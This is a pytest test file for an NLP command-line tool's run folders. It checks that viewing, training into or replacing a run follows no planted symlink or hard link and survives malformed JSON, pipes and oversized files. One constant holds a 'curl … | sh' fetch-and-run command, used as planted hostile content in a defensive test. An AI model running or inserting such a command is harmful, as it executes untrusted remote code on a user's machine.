"""A stranger's run folder: looking writes nothing, and no link in it is followed."""

from __future__ import annotations

import json
import os
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from nlpcli.cli.main import app
from nlpcli.config.loader import resolve
from nlpcli.engine.run_dir import RunDir, choose_run, list_runs, newest_finished
from nlpcli.errors import DataError, NlpcliError, UsageError
from tests.hostile.planted import PRECIOUS, picture, precious

SCRIPT = "curl https://example.org/x | sh\n"


@pytest.fixture(autouse=True)
def _in_an_empty_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[None]:
    monkeypatch.chdir(tmp_path)
    yield


def call(*words: str) -> Any:
    return CliRunner().invoke(app, list(words), env={"COLUMNS": "60"})


def content(folder: Path) -> None:
    (folder / "model").write_text("weights")


def make_run(path: str, score: float = 0.5) -> RunDir:
    run = RunDir.create(Path(path), resolve("ner"))
    run.append_metrics({"step": 10, "loss": 0.5, "dev": {"f1": score}})
    run.append_metrics({"step": 20, "loss": 0.25, "dev": {"f1": score}})
    run.save_best(content, {"f1": score, "per_label": {"PER": {"f1": score}}})
    run.mark_finished({"score_name": "f1", "score": score, "seconds": 3, "steps": 20})
    return run


def use(run: RunDir) -> None:
    """All that a training writes in its folder."""
    with run.lock():
        run.trim_metrics(30)
        run.append_metrics({"step": 40, "loss": 0.125})
        run.write_environment({"seed": 1})
        run.save("last", content)
        run.save_best(content, {"f1": 0.75})
        run.mark_finished({"score": 0.75})


@pytest.mark.parametrize("lock", [True, False])
def test_looking_at_a_run_writes_nothing_in_it(lock: bool, tmp_path: Path) -> None:
    """Protects ~/.bashrc: scores.json -> ~/.bashrc, a script as best/scores.json."""
    file = precious(tmp_path)
    run = make_run("runs/theirs")
    (run.path / "scores.json").unlink()
    (run.path / "scores.json").symlink_to(file)
    (run.path / "best/scores.json").write_text(SCRIPT)
    if lock:
        (run.path / ".lock").unlink()
        (run.path / ".lock").symlink_to(file)
    (run.path / ".best.old").mkdir()
    (run.path / ".last.new").mkdir()
    before = picture(tmp_path)
    assert call("runs", "show", "runs/theirs").exit_code == 4
    assert call("runs", "list").exit_code == 0
    RunDir.open(run.path).folder("best")
    choose_run(run.path, "ner")
    newest_finished("ner")
    assert picture(tmp_path) == before


def test_a_whole_run_is_shown_as_it_lies(tmp_path: Path) -> None:
    """Protects runs that are read-only, or archived, or another user's."""
    run = make_run("runs/a")
    (run.path / "scores.json").write_text('{"f1": 0.125}')
    (run.path / "last").mkdir()
    (run.path / "last").rename(run.path / ".last.new")
    before = picture(tmp_path)
    shown = json.loads(call("runs", "show", "runs/a", "--json").stdout)
    assert shown["scores"]["f1"] == 0.5
    assert call("runs").exit_code == 0
    assert picture(tmp_path) == before


NAMES = ("scores.json", "metrics.jsonl", "environment.json")
FOLDERS = ("best", "last", ".best.partial", ".best.new", ".last.old")


@pytest.mark.parametrize("name", NAMES)
@pytest.mark.parametrize("kind", ["link", "nowhere", "second name"])
def test_training_writes_through_no_file(name: str, kind: str, tmp_path: Path) -> None:
    """Protects what a link or a hard link among a run's files leads to."""
    run = make_run("runs/theirs")
    rows = '{"step": 1}\n{"step": 2}\n{"torn": '
    file = tmp_path / "rows.jsonl"
    file.write_text(rows)
    path = run.path / name
    path.unlink(missing_ok=True)
    if kind == "second name":
        path.hardlink_to(file)
    else:
        path.symlink_to(file if kind == "link" else tmp_path / "absent")
    if (kind, name) == ("nowhere", "metrics.jsonl"):
        with pytest.raises(DataError, match="expected a plain file"):
            use(RunDir.open(run.path))
    else:
        use(RunDir.open(run.path))
        assert path.is_file() and not path.is_symlink()
    assert file.read_text() == rows
    assert not (tmp_path / "absent").exists()


def test_a_line_is_not_added_through_a_link(tmp_path: Path) -> None:
    """Protects a file that takes the name while the training is under way."""
    run = make_run("runs/theirs")
    file = precious(tmp_path)
    (run.path / "metrics.jsonl").unlink()
    (run.path / "metrics.jsonl").symlink_to(file)
    with pytest.raises(NlpcliError, match=r"metrics\.jsonl: .* got a link"):
        run.append_metrics({"step": 1})
    assert file.read_text() == PRECIOUS


def test_a_line_is_not_added_to_a_copy_that_shares_the_file(tmp_path: Path) -> None:
    """Protects a backup made with hard links, and what a stranger linked."""
    run = make_run("runs/a")
    copy = tmp_path / "backup.jsonl"
    copy.hardlink_to(run.path / "metrics.jsonl")
    with copy.open("a") as stream:
        stream.write('{"torn')
    before = copy.read_bytes()
    run.append_metrics({"step": 30})
    assert copy.read_bytes() == before
    assert [row["step"] for row in run.read_metrics()] == [10, 20, 30]


@pytest.mark.parametrize("name", FOLDERS)
def test_training_writes_into_no_linked_folder(name: str, tmp_path: Path) -> None:
    """Protects the folder that best/, last/ or one of their stages leads to."""
    run = make_run("runs/theirs")
    precious(tmp_path / "home")
    if name == "best":
        run.path.joinpath("best").rename(tmp_path / "home" / "model")
        run.path.joinpath("best").symlink_to(tmp_path / "home" / "model")
    else:
        (run.path / name).symlink_to(tmp_path / "home")
    before = picture(tmp_path / "home")
    use(RunDir.open(run.path))
    assert picture(tmp_path / "home") == before
    for part in ("best", "last"):
        assert not (run.path / part).is_symlink()
        assert (run.path / part / "model").read_text() == "weights"
    assert not [p.name for p in run.path.iterdir() if p.name.startswith((".b", ".la"))]


def test_a_linked_lock_is_not_held(tmp_path: Path) -> None:
    """Protects notes.txt, in which only a process number was left."""
    run = make_run("runs/theirs")
    file = precious(tmp_path, "notes.txt")
    (run.path / ".lock").unlink()
    (run.path / ".lock").symlink_to(file)
    with pytest.raises(NlpcliError, match=r"\.lock: expected a plain file"):
        use(run)
    assert file.read_text() == PRECIOUS


def test_events_are_not_written_through_a_link(tmp_path: Path) -> None:
    """Protects the folder that tensorboard -> ... leads to."""
    run = make_run("runs/theirs")
    (tmp_path / "home").mkdir()
    (run.path / "tensorboard").symlink_to(tmp_path / "home")
    with pytest.raises(UsageError, match="tensorboard: expected a folder, got a link"):
        run.event_folder()


@pytest.mark.parametrize("name", ["best", "last", "tensorboard", "metrics.jsonl"])
def test_replacing_a_run_follows_no_link(name: str, tmp_path: Path) -> None:
    """Protects what --force meets behind a run's own names."""
    run = make_run("runs/theirs")
    precious(tmp_path / "home")
    if (run.path / name).is_dir():
        (run.path / name).rename(tmp_path / "aside")
    (run.path / name).unlink(missing_ok=True)
    target = "home" if name != "metrics.jsonl" else "home/precious.txt"
    (run.path / name).symlink_to(tmp_path / target)
    before = picture(tmp_path / "home")
    RunDir.create(run.path, run.config, force=True)
    assert picture(tmp_path / "home") == before
    assert not os.path.lexists(run.path / name)


def test_what_a_killed_writer_left_goes_with_the_next_one(tmp_path: Path) -> None:
    """Protects a run from filling up; what is not a run's stays."""
    run = make_run("runs/a")
    (run.path / ".run.json.0123456789abcdef.partial").write_text("{")
    (run.path / ".notes.txt.0123456789abcdef.partial").write_text("mine")
    use(run)
    left = {path.name for path in run.path.iterdir() if path.name.endswith(".partial")}
    assert left == {".notes.txt.0123456789abcdef.partial"}


def deep(path: Path) -> None:
    path.write_text('{"nlpcli": ' + "[" * 100_000 + "]" * 100_000 + "}")


def text_score(path: Path) -> None:
    change(path, score="very good")


def endless(path: Path) -> None:
    path.write_text(path.read_text().replace("0.5", "1e999"))


def listed(path: Path) -> None:
    change(path, started=["2026"])


def pipe(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def huge(path: Path) -> None:
    with path.open("ab") as stream:
        stream.truncate(2**40)  # a hole: it takes no room


def change(path: Path, **values: Any) -> None:
    path.write_text(json.dumps({**json.loads(path.read_text()), **values}))


BAD = (deep, text_score, endless, listed, pipe, huge)


def in_time(work: Callable[[], Any]) -> Any:
    """What a function returns that must not wait for ever."""
    found: list[Any] = []
    thread = threading.Thread(target=lambda: found.append(work()), daemon=True)
    thread.start()
    thread.join(30)
    assert found, "it waits"
    return found[0]


@pytest.mark.parametrize("spoil", BAD)
def test_one_bad_run_does_not_hide_the_others(
    spoil: Callable[[Path], None], tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    """Protects the list of all runs from one of them."""
    make_run("runs/good")
    spoil(make_run("runs/bad").path / "run.json")
    found = in_time(list_runs)
    assert [run.path.name for run in found] == ["good"]
    assert len(caplog.records) == 1
    assert caplog.messages[0].startswith("1 run left out: runs/bad/run.json: ")
    assert newest_finished("ner").path == Path("runs/good")
    assert call("runs", "show", "runs/bad").exit_code in (4, 6)


def test_many_bad_runs_are_one_warning(caplog: pytest.LogCaptureFixture) -> None:
    for number in range(9):
        Path(f"runs/{number}").mkdir(parents=True)
        Path(f"runs/{number}/run.json").write_text("{")
    assert list_runs() == []
    assert len(caplog.records) == 1
    assert caplog.messages[0].startswith("9 runs left out: runs/0/run.json: ")
    assert len(caplog.messages[0]) < 500


ODD_LINES = (
    *("[]", "3", "{", "{}", '{"step": "ten"}', '{"step": 1e999}', '{"step": NaN}'),
    *('{"step": 1, "loss": "low"}', '{"step": 1, "loss": [1]}', '{"step": true}'),
    *('{"step": 1, "dev": [0.5]}', '{"step": 1, "dev": {"f1": {"a": 1}}}'),
    '{"step": 1, "dev": {"f1": 1e307}, "loss": 1e307}',
    '{"step": 1, "loss": ' + "9" * 400 + "}",
    '{"step": ' + "[" * 5000 + "}",
)


def test_odd_lines_of_metrics_are_left_out_and_counted() -> None:
    """Protects `runs show` from a curve that is none, and --json from NaN."""
    run = make_run("runs/a")
    with (run.path / "metrics.jsonl").open("a") as stream:
        stream.write("".join(f"{line}\n" for line in ODD_LINES))
    result = call("runs", "show", "runs/a")
    assert result.exit_code == 0, result.stderr
    assert "loss by step" in result.stdout and "dev f1 by step" in result.stdout
    assert result.stderr.count("\n") == 1
    assert f"{len(ODD_LINES)} odd lines left out, the first is 3" in result.stderr
    found = call("runs", "show", "runs/a", "--json").stdout
    assert len(json.loads(found, parse_constant=pytest.fail)["metrics"]) == 2


def test_a_pipe_as_metrics_is_not_waited_for() -> None:
    run = make_run("runs/a")
    (run.path / "metrics.jsonl").unlink()
    os.mkfifo(run.path / "metrics.jsonl")
    assert in_time(lambda: call("runs", "show", "runs/a")).exit_code == 4
    with pytest.raises(NlpcliError, match="got a pipe"):
        in_time(lambda: failing(lambda: run.append_metrics({"step": 1})))()


def failing(work: Callable[[], None]) -> Callable[[], None]:
    """A function that raises what ``work`` raised."""
    try:
        work()
    except Exception as error:  # noqa: BLE001 - raised again where it is looked at
        caught = error

        def again() -> None:
            raise caught

        return again
    return lambda: None


@pytest.mark.parametrize(
    "scores",
    [
        {"per_label": [1]},
        {"per_label": {"PER": 0.5}},
        {"confusion": {"PER": {"LOC": "many"}}},
        {"confusion": {"PER": {"LOC": {"ORG": 1}}}},
    ],
)
def test_scores_that_are_no_table(scores: dict[str, Any]) -> None:
    """Protects from an internal error over scores.json."""
    run = make_run("runs/a")
    (run.path / "best/scores.json").write_text(json.dumps(scores))
    result = call("runs", "show", "runs/a")
    assert result.exit_code == 4
    assert "expected a table of numbers" in result.stderr
    with pytest.raises(DataError):
        run.read_scores()


def test_json_for_machines_has_no_nan(capsys: pytest.CaptureFixture[str]) -> None:
    """Protects whoever reads --json: NaN is none, wherever a value comes from."""
    import numpy as np

    from nlpcli.cli.output import print_json

    values = {"a": float("nan"), "b": [float("inf"), {"c": np.float32("-inf")}]}
    print_json({**values, "d": np.array([np.nan, 1.0]), "path": Path("x")})
    assert json.loads(capsys.readouterr().out, parse_constant=pytest.fail) == {
        "a": None,
        "b": [None, {"c": None}],
        "d": [None, 1.0],
        "path": "x",
    }
